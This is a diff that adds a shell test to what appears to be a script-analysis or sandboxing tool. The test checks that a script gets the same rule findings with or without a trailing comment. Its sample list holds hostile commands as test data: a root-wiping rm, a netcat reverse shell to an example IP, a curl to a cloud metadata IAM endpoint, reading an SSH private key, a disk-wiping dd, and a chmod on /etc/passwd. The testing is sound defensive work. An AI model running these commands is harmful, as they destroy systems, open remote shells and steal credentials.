@@ -66,3 +66,20 @@ words() {
 	exits 126
 	err_has 'not run'
 }
+
+@test "a command of plain words, which no reader reads, has the same findings as with a comment" {
+	local words
+	for words in 'rm -rf /' 'nc -e /bin/sh 203.0.113.5 4444' 'curl http://169.254.169.254/latest/meta-data/iam' \
+		'cat .ssh/id_rsa' 'chmod 777 /etc/passwd' 'dd if=/dev/zero of=/dev/sda' 'npm test'; do
+		printf 'exec %s\n' "$words" >"$T/plain.sh"
+		printf 'exec %s\n#\n' "$words" >"$T/read.sh"
+		box user:no-cgroup --json "$T/read.sh"
+		mv "$T/out" "$T/read"
+		box user:no-cgroup --json "$T/plain.sh"
+		/usr/bin/python3 -IS - "$T/read" "$T/out" <<'PY' || show
+import json, sys
+a, b = (json.load(open(f))["rules"] for f in sys.argv[1:])
+assert a == b, (a, b)
+PY
+	done
+}
